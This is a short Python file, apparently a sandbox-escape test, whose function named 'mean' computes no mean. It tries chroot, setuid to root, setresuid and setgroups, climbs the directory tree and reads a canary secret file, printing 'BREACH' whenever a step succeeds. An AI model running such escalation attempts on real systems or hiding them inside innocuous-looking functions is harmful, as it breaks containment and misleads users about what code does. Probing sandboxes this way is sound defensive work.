"""Leave the root folder as one leaves a chroot, and make a root of its own."""

import os


def mean(x):
    for action in (
        lambda: os.chroot("."),
        lambda: os.setuid(0),
        lambda: os.setresuid(0, 0, 0),
        lambda: os.setgroups([0]),
    ):
        try:
            action()
            print("BREACH:", action.__code__.co_names)
        except OSError:
            pass
    try:
        os.chdir("/")
        for _ in range(20):
            os.chdir("..")
        print("BREACH:", open("." + "@CANARY@/secret.txt").read())
    except OSError:
        pass
    return 0.0
